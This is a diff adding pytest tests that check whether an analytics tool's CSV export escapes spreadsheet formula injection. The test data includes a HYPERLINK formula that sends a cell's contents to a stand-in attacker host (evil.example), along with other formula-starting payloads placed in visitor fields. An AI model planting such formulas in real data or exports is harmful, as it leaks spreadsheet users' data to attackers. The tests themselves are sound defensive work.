@@ -4,7 +4,7 @@ import io
 import json
 
 import pytest
-from conftest import T0, event, pageview
+from conftest import T0, event, pageview, send
 
 from umami_lite import cli
 from umami_lite.storage import connection as db
@@ -98,3 +98,41 @@ def test_cli_export_to_file_and_stdout(app, seeded, tmp_path, capsys):
         cli.main(["--database", path, "export", "--website", "999"])
     with pytest.raises(SystemExit, match="not a date"):
         cli.main(["--database", path, "export", "--website", "1", "--from", "yesterday"])
+
+
+HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"Click me")'
+
+
+def formula_dataset(client, uuid):
+    """Stores hits whose visitor-chosen strings would run as spreadsheet formulas."""
+    pageview(client, uuid, url=HYPERLINK, referrer="+SUM(1,2)", hostname="@evil.example",
+             language="-2+3")
+    send(client, uuid, url="/title", title=HYPERLINK, tag="\tcmd")
+    send(client, uuid, url="/event", name=HYPERLINK, data={"k": "=1"})
+    send(client, uuid, url="/quoted", title="'already quoted", tag="\rx")
+
+
+def test_csv_cells_never_start_a_formula(app, client, website):
+    formula_dataset(client, website["website_uuid"])
+    count, text = _export(app, website, "csv")
+    rows = list(csv.DictReader(io.StringIO(text)))
+    assert count == len(rows) == 4
+    cells = [cell for row in rows for cell in row.values()]
+    assert [c for c in cells if c.startswith(export.FORMULA_START)] == []
+    hyperlink, title, quoted, named = rows  # pageviews before events of the same time
+    assert (hyperlink["url"], hyperlink["referrer"], hyperlink["hostname"],
+            hyperlink["language"]) == ("'" + HYPERLINK, "'+SUM(1,2)", "'@evil.example", "'-2+3")
+    assert (title["page_title"], title["tag"]) == ("'" + HYPERLINK, "'\tcmd")
+    assert (quoted["page_title"], quoted["tag"]) == ("''already quoted", "'\rx")
+    assert named["event_value"] == "'" + HYPERLINK[:50]  # event names are cut to 50
+    _, jsonl = _export(app, website, "jsonl")  # JSON lines hold the values as stored
+    assert json.loads(jsonl.splitlines()[0])["url"] == HYPERLINK
+
+
+def test_cli_csv_export_guards_formulas(app, client, website, tmp_path, capsys):
+    formula_dataset(client, website["website_uuid"])
+    out = tmp_path / "x.csv"
+    cli.main(["--database", app.extensions["umami_lite"].database, "export", "--website",
+              website["website_uuid"], "--format", "csv", "--output", str(out)])
+    cells = [c for row in csv.reader(io.StringIO(out.read_text())) for c in row]
+    assert "'" + HYPERLINK in cells and HYPERLINK not in cells
